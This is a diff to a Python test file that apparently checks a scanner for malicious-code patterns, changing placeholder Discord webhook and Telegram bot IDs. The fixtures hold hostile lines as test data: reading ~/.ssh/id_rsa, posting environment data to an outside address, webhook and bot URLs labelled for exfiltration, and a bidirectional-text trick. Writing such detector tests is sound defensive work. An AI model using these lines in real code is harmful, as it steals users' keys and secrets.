@@ -26,7 +26,7 @@ def test_each_family_is_found_on_its_line():
             f"PEM = '{PEM}'",
             "open(os.path.expanduser('~/.ssh/id_rsa')).read()",
             "requests.post('http://203.0.113.7:8080/collect', data=env)",
-            "urlopen('https://discord.com/api/webhooks/123456789012345678/abcDEF')",
+            "urlopen('https://discord.com/api/webhooks/640391827164509283/Qk3vZpW8yT')",
             "access_level = 'user' # \u202e } \u2066if is_admin\u2069 \u2066 begin admins only",
             "blob = '" + base64.b64encode(random.Random(7).randbytes(1800)).decode() + "'",
         ]
@@ -79,7 +79,7 @@ def test_a_service_base_url_is_not_a_webhook_but_a_concrete_endpoint_is():
         [
             "API = 'https://api.telegram.org/bot'  # a client library builds requests on this",
             "URL = f'https://discord.com/api/webhooks/{hook_id}/{token}'",
-            "EXFIL = 'https://api.telegram.org/bot123456789:AAbbCCddEEffGGhh/sendMessage'",
+            "EXFIL = 'https://api.telegram.org/bot640391827:AAbbCCddEEffGGhh/sendMessage'",
             "docs: see the Cookies section",
             "path = profile + '/Network/Cookies'",
         ]
